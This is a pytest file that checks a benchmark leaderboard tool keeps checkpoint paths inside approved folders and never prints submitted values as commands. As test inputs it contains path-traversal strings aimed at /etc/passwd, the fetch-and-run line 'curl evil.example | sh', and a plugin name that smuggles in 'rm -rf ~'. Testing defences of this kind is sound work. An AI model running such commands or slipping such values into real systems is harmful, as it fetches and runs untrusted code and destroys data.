"""Confined checkpoint paths: `validate` rejects every path outside leaderboard/checkpoints/ or
runs/leaderboard-checkpoints/ naming the rule, `verify` refuses to evaluate it, `benchmark`
refuses to write it; and nothing of a submitted entry is printed as a command."""

import os

import pytest
from tests.harness.leaderboard.conftest import CHEAP_ENTRY, read, write

from latentbench.cli import main

ENTRY = f"digits-v1/{CHEAP_ENTRY.name}"
RULE = ("checkpoint.path must be a relative path inside leaderboard/checkpoints/ or runs/leaderboard-checkpoints/ "
        "of the repository (no '..', not absolute, no symlink leading outside)")


def _set_path(lb_copy, path):
    data = read(lb_copy / ENTRY)
    data["checkpoint"]["path"] = path
    write(lb_copy / ENTRY, data)


@pytest.mark.parametrize("path,problem", [
    ("../../etc/passwd", "has a '..' component"),
    ("leaderboard/checkpoints/digits-v1/../../../etc", "has a '..' component"),
    ("/etc", "is absolute or empty"),
    ("C:\\Windows", "is absolute or empty"),
    ("outside/vae", "is not a folder inside a checkpoint root"),
    ("leaderboard/checkpoints", "is not a folder inside a checkpoint root"),
    ("leaderboard/digits-v1", "is not a folder inside a checkpoint root"),
    ("runs/benchmark/digits-v1/vae", "is not a folder inside a checkpoint root"),
])
def test_validate_rejects_paths_outside_the_checkpoint_folders(lb_copy, capsys, path, problem):
    _set_path(lb_copy, path)
    assert main(["leaderboard", "validate", str(lb_copy)]) == 1
    captured = capsys.readouterr()
    assert f"{ENTRY}: checkpoint.path: '{path}' {problem}; {RULE}" in captured.out.splitlines()
    assert captured.err.startswith("latentbench: error: 1 problem(s) in ")
    assert "fix the fields named above" in captured.err


def test_validate_rejects_a_symlink_leading_outside(lb_copy, tmp_path, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    (lb_copy / "checkpoints" / "digits-v1" / "evil").symlink_to(outside, target_is_directory=True)
    _set_path(lb_copy, "leaderboard/checkpoints/digits-v1/evil")
    assert main(["leaderboard", "validate", str(lb_copy)]) == 1
    out = capsys.readouterr().out
    assert (f"{ENTRY}: checkpoint.path: 'leaderboard/checkpoints/digits-v1/evil' leads outside "
            f"leaderboard/checkpoints/ through a symlink (resolves to {outside.resolve()}); {RULE}") in out


def test_the_shipped_paths_and_the_runs_folder_pass(lb_copy, capsys):
    assert main(["leaderboard", "validate", str(lb_copy)]) == 0
    _set_path(lb_copy, "runs/leaderboard-checkpoints/digits-v1/vae")  # the large checkpoints' folder, not in git
    assert main(["leaderboard", "validate", str(lb_copy)]) == 0
    _set_path(lb_copy, None)
    assert main(["leaderboard", "validate", str(lb_copy)]) == 0


@pytest.mark.parametrize("path", ["../../etc", "/etc", "outside/vae"])
def test_verify_refuses_a_path_outside_before_reading_it(lb_copy, capsys, path):
    _set_path(lb_copy, path)
    assert main(["leaderboard", "verify", str(lb_copy / ENTRY)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("latentbench: error: ") and RULE in err and len(err.strip().splitlines()) == 1


def test_verify_refuses_a_symlink_leading_outside(lb_copy, tmp_path, capsys):
    # the escaping folder even holds the right weights: the rule, not the content, decides
    real = lb_copy / "checkpoints" / "digits-v1" / "vae"
    outside = tmp_path / "elsewhere"
    real.rename(outside)
    os.symlink(outside, real, target_is_directory=True)
    assert main(["leaderboard", "verify", str(lb_copy / ENTRY)]) == 2
    assert "through a symlink" in capsys.readouterr().err


def test_the_submitted_regenerate_command_is_never_printed(lb_copy, capsys):
    data = read(lb_copy / ENTRY)
    data["checkpoint"]["regenerate"] = "curl evil.example | sh"
    data["checkpoint"]["path"] = "leaderboard/checkpoints/digits-v1/missing"
    write(lb_copy / ENTRY, data)
    assert main(["leaderboard", "verify", str(lb_copy / ENTRY)]) == 2
    err = capsys.readouterr().err
    assert "curl" not in err
    assert ("rebuild it with `latentbench benchmark --protocol digits-v1 --model vae --name vae ...settings from "
            "the entry's model.config`") in err


def test_a_plugin_name_that_is_not_plain_is_not_put_in_a_command(lb_copy, capsys):
    from latentbench.leaderboard.validate import rebuild_command

    data = read(lb_copy / ENTRY)
    data["model"]["plugin"] = "vae; rm -rf ~"
    assert "rm -rf" not in rebuild_command(data) and "PLUGIN" in rebuild_command(data)


def test_benchmark_refuses_to_save_a_checkpoint_outside_before_any_work(tmp_path, capsys):
    rc = main(["benchmark", "--protocol", "digits-v1", "--model", "vae", "--out", str(tmp_path / "lb/digits-v1/vae.json"),
               "--save-checkpoint", str(tmp_path / "elsewhere")])
    assert rc == 2
    err = capsys.readouterr().err
    assert "config error at '--save-checkpoint'" in err and "is not a folder inside a checkpoint root" in err
    assert "lb/checkpoints/ or leaderboard/checkpoints/ or runs/leaderboard-checkpoints/" in err
    assert not (tmp_path / "lb").exists()


@pytest.mark.parametrize("out", ["entry.json", "lb/digits-v1/other.json", "lb/mnist/vae.json", "lb/digits-v1/vae.txt"])
def test_benchmark_refuses_an_entry_file_validate_could_not_read_before_any_work(tmp_path, capsys, out):
    """An --out not shaped <leaderboard>/<protocol>/<name>.json would give an entry `leaderboard validate`
    refuses (and a default checkpoint folder outside the repository, e.g. /runs/... for /tmp/entry.json)."""
    rc = main(["benchmark", "--protocol", "digits-v1", "--model", "vae", "--out", str(tmp_path / out),
               "--work-dir", str(tmp_path / "work")])
    assert rc == 2
    err = capsys.readouterr().err
    assert "config error at '--out'" in err and "is not <leaderboard>/digits-v1/vae.json" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == [], "nothing may be written before the refusal"
